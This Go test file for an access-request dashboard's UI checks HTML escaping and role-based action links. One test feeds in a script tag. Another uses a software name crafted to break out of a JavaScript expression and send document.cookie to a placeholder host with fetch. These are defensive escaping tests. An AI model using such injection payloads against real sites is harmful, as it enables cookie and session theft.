package ui

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/atvirokodosprendimai/accessdesk/internal/domain"
)

func TestRequestsTableEscapesAndShowsActions(t *testing.T) {
	reqs := []domain.AccessRequest{{
		ID:         5,
		AccessType: domain.AccessRead,
		Reason:     "<script>alert(1)</script>",
		Status:     domain.StatusPending,
		User:       &domain.User{Username: "alice"},
		Software:   &domain.Software{Name: "VPN"},
	}}

	var buf bytes.Buffer
	if err := RequestsTable(reqs, true, true).Render(context.Background(), &buf); err != nil {
		t.Fatalf("render: %v", err)
	}
	html := buf.String()
	if strings.Contains(html, "<script>alert") {
		t.Fatalf("reason must be escaped: %s", html)
	}
	for _, want := range []string{"alice", "VPN", "/dashboard/requests/5/Approved", "/dashboard/requests/5/Rejected", `data-status="Pending"`} {
		if !strings.Contains(html, want) {
			t.Fatalf("expected %q in %s", want, html)
		}
	}

	buf.Reset()
	reqs[0].Status = domain.StatusApproved
	if err := RequestsTable(reqs, true, true).Render(context.Background(), &buf); err != nil {
		t.Fatalf("render: %v", err)
	}
	if strings.Contains(buf.String(), "/dashboard/requests/5/") || !strings.Contains(buf.String(), "decided") {
		t.Fatalf("decided requests should not offer actions: %s", buf.String())
	}

	buf.Reset()
	if err := RequestsTable(reqs, false, false).Render(context.Background(), &buf); err != nil {
		t.Fatalf("render: %v", err)
	}
	if strings.Contains(buf.String(), "@patch") || strings.Contains(buf.String(), "alice") {
		t.Fatalf("employee view should have no review actions or requester column")
	}
}

func TestPageIncludesFlashTargetAndUser(t *testing.T) {
	var buf bytes.Buffer
	page := EmployeeDashboard(domain.User{Username: "bob"}, []domain.Software{{ID: 1, Name: "Wiki"}}, nil)
	if err := page.Render(context.Background(), &buf); err != nil {
		t.Fatalf("render: %v", err)
	}
	html := buf.String()
	for _, want := range []string{`id="flash"`, "bob", `<option value="1">Wiki</option>`, "No requests yet."} {
		if !strings.Contains(html, want) {
			t.Fatalf("expected %q in page", want)
		}
	}
}

func TestSoftwareNamesStayOutOfActionExpressions(t *testing.T) {
	name := `x'); fetch('//evil/'+document.cookie); ('`
	var buf bytes.Buffer
	if err := SoftwareTable([]domain.Software{{ID: 3, Name: name}}, true).Render(context.Background(), &buf); err != nil {
		t.Fatalf("render: %v", err)
	}
	html := buf.String()
	want := `data-on-click="confirm(&#39;Delete &#39; + el.dataset.name + &#39; and its requests?&#39;) &amp;&amp; @delete(&#39;/dashboard/software/3&#39;)"`
	if !strings.Contains(html, want) {
		t.Fatalf("delete action should only reference the element dataset: %s", html)
	}
	if !strings.Contains(html, `data-name="x&#39;); fetch(&#39;//evil/&#39;+document.cookie); (&#39;"`) {
		t.Fatalf("name should be carried as an escaped data attribute: %s", html)
	}
	if strings.Count(html, "fetch(") != 2 {
		t.Fatalf("name should only appear in the cell and the data attribute: %s", html)
	}
}
